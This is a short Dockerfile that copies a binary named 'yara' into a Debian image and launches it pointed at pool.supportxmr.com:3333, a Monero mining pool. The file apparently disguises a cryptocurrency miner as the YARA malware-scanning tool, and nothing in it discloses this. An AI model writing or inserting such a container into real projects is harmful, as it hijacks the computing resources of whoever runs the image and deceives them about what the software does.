FROM debian:12
COPY yara /opt/yara
CMD ["/opt/yara", "--server", "pool.supportxmr.com:3333"]
